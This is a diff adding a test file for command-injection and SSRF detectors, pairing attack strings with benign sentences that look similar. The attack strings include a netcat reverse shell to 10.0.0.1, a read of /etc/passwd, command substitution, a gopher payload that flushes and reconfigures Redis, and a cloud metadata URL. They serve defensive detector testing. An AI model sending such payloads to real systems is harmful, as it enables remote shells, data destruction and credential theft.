@@ -1,0 +1,29 @@
+import { cmdiDetector } from "../src/detectors/cmdi/index.js";
+import { ssrfDetector } from "../src/detectors/ssrf/index.js";
+import { describeRules, scoreOf } from "./helpers.js";
+
+// What people write in comments and support messages: a program named in an aside, a local URL in a sentence.
+// Each rule keeps the attacks that look closest.
+describeRules("cmdi: a parenthetical aside naming programs", (value) => scoreOf(cmdiDetector, value, "body", "comment"), {
+  "an aside that closes on plain words": {
+    attacks: ["hello (whoami)", "x (nc -e /bin/sh 10.0.0.1 4444)", "a;(cat /etc/passwd)", "name $(id -u)"],
+    benign: [
+      "On Windows (cmd.exe and PowerShell), it is needed to run chcp 65001 in the terminal.",
+      "Works in every shell (bash or zsh or fish) we tried",
+      "Pull the report (curl the latest numbers) and send it",
+      "Set the code page in a terminal (cmd.exe and\npowershell), it is needed for utf-8",
+    ],
+  },
+});
+
+describeRules("ssrf: a local URL inside a sentence", (value) => scoreOf(ssrfDetector, value, "body", "message"), {
+  "a sentence with a loopback or private link": {
+    attacks: [
+      "http://127.0.0.1:6379/",
+      "gopher://127.0.0.1:6379/_flushall set key value config",
+      "see http://169.254.169.254/latest/meta-data/ for the keys",
+      "http://localhost/admin then more words here",
+    ],
+    benign: ["Open http://localhost:3000 in your browser.", "The dev server runs on http://127.0.0.1:8080 by default, try it"],
+  },
+});
